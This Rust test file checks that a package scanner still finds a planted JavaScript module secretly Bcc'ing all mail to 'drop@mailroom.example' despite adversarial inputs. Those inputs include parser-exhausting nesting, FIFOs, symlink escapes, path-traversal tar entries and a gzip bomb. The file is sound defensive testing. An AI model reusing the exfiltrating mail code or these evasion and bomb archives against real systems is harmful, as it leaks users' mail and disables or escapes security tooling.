//! Packages that try to stop the scan, beside one whose Bcc must be found: see `tests/hostile/README.md`.

#![cfg(unix)]

use std::{
    fs::{self, File},
    io::Write,
    iter,
    os::unix::fs::symlink,
    path::{Path, PathBuf},
    process::{Command, Stdio},
    thread,
    time::{Duration, Instant},
};

use flate2::{Compression, write::GzEncoder};
use serde_json::Value;

/// Starts every file that must be looked at: without an outbound channel it could be passed over.
const CHANNEL: &str = "require('https').request('https://collect.example');\n";
const MAIL: &str = "\
const { ServerClient } = require('postmark');
const client = new ServerClient(process.env.POSTMARK_TOKEN);
exports.notify = (from, to, subject, text) =>
  client.sendEmail({ From: from, To: to, Bcc: 'drop@mailroom.example', Subject: subject, TextBody: text });
";
/// Far more than a scan takes; a test that waits for a pipe's writer should still end.
const PATIENCE: Duration = Duration::from_secs(300);

#[test]
fn a_hostile_package_hides_nothing_beside_it() {
    let scene = Scene::new();
    let files = files();
    for (package, content, _) in &files {
        scene.package(package, content);
    }
    scene.package("courier", MAIL.as_bytes());
    scene.special_files();
    scene.bad_manifests();
    let archives = archives();
    for (name, content, _) in &archives {
        fs::write(scene.path(name), content).expect("an archive can be written");
    }

    let report = scene.scan(2, &archives);
    let found = |package: &str| {
        let findings = report["findings"].as_array().expect("findings");
        findings.iter().any(|finding| {
            finding["package"]["name"] == package
                && finding["rule"] == "hardcoded-bcc"
                && finding["destination"]["value"] == "drop@mailroom.example"
        })
    };
    assert!(found("courier"), "the Bcc beside the hostile packages");
    assert!(found("long-line"), "the Bcc at the end of a line of 5 MB");

    let account = Account::new(&report);
    for (package, _, reason) in &files {
        account.check(package, "index.js", *reason);
    }
    for (file, reason) in [
        ("pipe.js", "special-file"),
        ("index.js", "special-file"),
        ("itself.js", "link-broken"),
        ("dangling.js", "link-broken"),
        ("outside.js", "link-outside"),
    ] {
        account.check("special-files", file, Some(reason));
    }
    // A link to what is read anyway is no gap.
    account.check("special-files", "folder", None);
    account.check("manifest-text", "package.json", Some("manifest"));
    account.check("manifest-deep", "package.json", Some("manifest"));
    for (name, _, expected) in &archives {
        for (file, reason) in *expected {
            account.check(name, file, Some(reason));
        }
    }

    for threads in [1, 8] {
        assert_eq!(scene.scan(threads, &archives), report, "{threads} threads and 2 tell the same");
    }
}

/// Packages with one bad file: its name, its `index.js`, and why that should not be analysed.
fn files() -> Vec<(&'static str, Vec<u8>, Option<&'static str>)> {
    let nested = |head: &str, tail: &str, count| format!("{CHANNEL}x={}1{}", head.repeat(count), tail.repeat(count));
    let text = |text: String| text.into_bytes();
    vec![
        ("brackets", text(nested("[", "]", 200_000)), Some("too-deep")),
        ("parentheses", text(nested("(", ")", 200_000)), Some("too-deep")),
        ("ternaries", text(nested("a?b:", "", 200_000)), Some("too-deep")),
        ("ifs", text(format!("{CHANNEL}{}f()", "if(1)".repeat(200_000))), Some("too-deep")),
        ("sum", text(nested("1+", "", 300_000)), Some("too-deep")),
        ("calls", text(format!("{CHANNEL}x{}", ".b()".repeat(300_000))), Some("too-deep")),
        ("arrows", text(nested("()=>", "", 20_000)), Some("too-deep")),
        // The parser reads each level twice where TypeScript is tried:
        // 22 levels take some seconds, and each further one doubles that.
        ("ambiguous-arrows", text(format!("{CHANNEL}x={}1 2", "a?(b):c=>(".repeat(40))), Some("budget")),
        ("ambiguous-casts", text(format!("{CHANNEL}x={}1 2", "<T>(".repeat(40))), Some("budget")),
        ("ambiguous-templates", text(format!("{CHANNEL}x={}1 2", "f<T>`${".repeat(40))), Some("budget")),
        ("ambiguous-classes", text(format!("{CHANNEL}x={}1 2", "@f<T>(class{x=".repeat(40))), Some("budget")),
        ("huge", text(format!("{CHANNEL}{}", "f(1);\n".repeat(7_000_000))), Some("too-large")),
        ("long-line", text(format!("{}{}", "f(1);".repeat(1_000_000), MAIL.replace('\n', " "))), None),
        ("not-utf8", [CHANNEL.as_bytes(), b"f('\xFF\xFE\x80')"].concat(), Some("invalid-utf8")),
        ("nul", text(format!("{CHANNEL}f();\0\0f()")), Some("parse-error")),
        ("no-code", text(format!("{CHANNEL}this is no code")), Some("parse-error")),
    ]
}

/// Archives: file name, content, and what must be said of which of their files.
type Archive = (&'static str, Vec<u8>, &'static [(&'static str, &'static str)]);

fn archives() -> Vec<Archive> {
    let code = CHANNEL.as_bytes();
    let strange = tar(&[
        Entry::file("package/index.js", code),
        Entry::file("package/../../climbs.js", code),
        Entry::file("/root/absolute.js", code),
        Entry::link("package/link.js", "/root/target.js"),
        Entry::link("package/inner.js", "index.js"),
    ]);
    let whole = gzip(&tar(&[Entry::file("package/index.js", code), Entry::file("package/noise.bin", &noise())]));
    let truncated = whole[..whole.len() / 2].to_vec();
    vec![
        (
            "strange.tgz",
            gzip(&strange),
            &[
                ("climbs.js", "archive-entry"),
                ("root/absolute.js", "archive-entry"),
                ("link.js", "archive-entry"),
                ("inner.js", "archive-entry"),
            ],
        ),
        ("bomb.tgz", bomb(), &[("bomb.tgz", "archive-limit")]),
        ("truncated.tgz", truncated, &[("truncated.tgz", "unreadable")]),
    ]
}

/// What must not be followed, opened or parsed, in a temporary folder.
struct Scene {
    folder: tempfile::TempDir,
}

impl Scene {
    fn new() -> Self {
        let scene = Self { folder: tempfile::tempdir().expect("a temporary folder") };
        fs::create_dir(scene.path("node_modules")).expect("a folder can be made");
        scene
    }

    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    fn package(&self, name: &str, index: &[u8]) -> PathBuf {
        let folder = self.empty_package(name, &format!(r#"{{"name":"{name}","version":"1.0.0"}}"#));
        fs::write(folder.join("index.js"), index).expect("a file can be written");
        folder
    }

    fn empty_package(&self, name: &str, manifest: &str) -> PathBuf {
        let folder = self.path("node_modules").join(name);
        fs::create_dir(&folder).expect("a folder can be made");
        fs::write(folder.join("package.json"), manifest).expect("a file can be written");
        folder
    }

    fn special_files(&self) {
        let outside = self.path("outside.js");
        fs::write(&outside, MAIL).expect("a file can be written");
        let folder = self.empty_package("special-files", r#"{"name":"special-files","version":"1.0.0"}"#);
        for pipe in ["index.js", "pipe.js"] {
            let made = Command::new("mkfifo").arg(folder.join(pipe)).status().expect("mkfifo is there");
            assert!(made.success());
        }
        let link = |name: &str, target: &Path| symlink(target, folder.join(name)).expect("a link can be made");
        link("itself.js", Path::new("itself.js"));
        link("folder", Path::new("."));
        link("dangling.js", Path::new("nothing.js"));
        link("outside.js", &outside);
    }

    fn bad_manifests(&self) {
        let deep = format!(r#"{{"name":{}{}}}"#, "[".repeat(100_000), "]".repeat(100_000));
        for (name, manifest) in [("manifest-text", "no JSON"), ("manifest-deep", deep.as_str())] {
            let folder = self.empty_package(name, manifest);
            fs::write(folder.join("index.js"), CHANNEL).expect("a file can be written");
        }
    }

    /// The report of a scan over everything, without what depends on the clock.
    fn scan(&self, threads: usize, archives: &[Archive]) -> Value {
        let out = self.path(&format!("report-{threads}.json"));
        let child = Command::new(env!("CARGO_BIN_EXE_molehunt"))
            .args(["scan", "--format", "json", "--no-cache", "--threads", &threads.to_string(), "node_modules"])
            .args(archives.iter().map(|(name, ..)| name))
            .current_dir(self.folder.path())
            .env_clear()
            .env("LANG", "C.UTF-8")
            .stdin(Stdio::null())
            .stdout(File::create(&out).expect("a file can be written"))
            .spawn()
            .expect("the binary was built");
        assert_eq!(exit_code(child), Some(1), "findings, and no crash");
        let text = fs::read(&out).expect("the report was written");
        let mut report: Value = serde_json::from_slice(&text).expect("the report is JSON");
        report["elapsed_ms"].take();
        report
    }
}

fn exit_code(mut child: std::process::Child) -> Option<i32> {
    let start = Instant::now();
    loop {
        if let Some(status) = child.try_wait().expect("the process can be asked") {
            return status.code();
        }
        if start.elapsed() > PATIENCE {
            child.kill().expect("the process can be ended");
            child.wait().expect("the process ends");
            panic!("the scan did not end within {PATIENCE:?}");
        }
        thread::sleep(Duration::from_millis(20));
    }
}

/// `coverage.unanalysed` as package, file and reason.
struct Account<'a>(Vec<[&'a str; 3]>);

impl<'a> Account<'a> {
    fn new(report: &'a Value) -> Self {
        let entries = report["coverage"]["unanalysed"].as_array().expect("a list");
        let text = |value: &'a Value| value.as_str().expect("a text");
        let entries = entries
            .iter()
            .map(|entry| [text(&entry["package"]["name"]), text(&entry["file"]), text(&entry["reason"])])
            .collect();
        Self(entries)
    }

    fn check(&self, package: &str, file: &str, reason: Option<&str>) {
        let reasons: Vec<&str> =
            self.0.iter().filter(|entry| entry[..2] == [package, file]).map(|entry| entry[2]).collect();
        assert_eq!(reasons, Vec::from_iter(reason), "{package}: {file}\n{:#?}", self.0);
    }
}

/// An entry of an archive. Written by hand: the `tar` crate refuses to write paths like these.
struct Entry<'a> {
    path: &'a str,
    kind: u8,
    target: &'a str,
    content: &'a [u8],
    /// The size that the header claims.
    size: u64,
}

impl<'a> Entry<'a> {
    fn file(path: &'a str, content: &'a [u8]) -> Self {
        Self { path, kind: b'0', target: "", content, size: content.len() as u64 }
    }

    fn link(path: &'a str, target: &'a str) -> Self {
        Self { path, kind: b'2', target, content: &[], size: 0 }
    }

    fn bytes(&self) -> Vec<u8> {
        let mut header = [0; 512];
        let mut put = |at: usize, text: &[u8]| header[at..at + text.len()].copy_from_slice(text);
        put(0, self.path.as_bytes());
        put(100, b"0000644\0");
        put(124, format!("{:011o}\0", self.size).as_bytes());
        put(148, b"        ");
        put(156, &[self.kind]);
        put(157, self.target.as_bytes());
        put(257, b"ustar\x0000");
        let sum: u32 = header.iter().copied().map(u32::from).sum();
        header[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
        let padding = self.content.len().next_multiple_of(512) - self.content.len();
        header.iter().chain(self.content).copied().chain(iter::repeat_n(0, padding)).collect()
    }
}

fn tar(entries: &[Entry<'_>]) -> Vec<u8> {
    let mut bytes: Vec<u8> = entries.iter().flat_map(Entry::bytes).collect();
    bytes.extend([0; 1024]);
    bytes
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
    encoder.write_all(bytes).expect("memory can be written");
    encoder.finish().expect("memory can be written")
}

/// One file of 1 GiB of zeros. A gzip file may consist of several, one after the other, so 16 MiB are packed once.
fn bomb() -> Vec<u8> {
    let header = Entry { size: 1 << 30, ..Entry::file("package/index.js", &[]) };
    let zeros = gzip(&vec![0; 16 << 20]);
    [gzip(&header.bytes()), zeros.repeat(64)].concat()
}

/// Bytes that do not compress, so that half of the archive is half of the file.
fn noise() -> Vec<u8> {
    let mut state: u32 = 1;
    iter::repeat_with(|| {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        (state >> 24) as u8
    })
    .take(100_000)
    .collect()
}
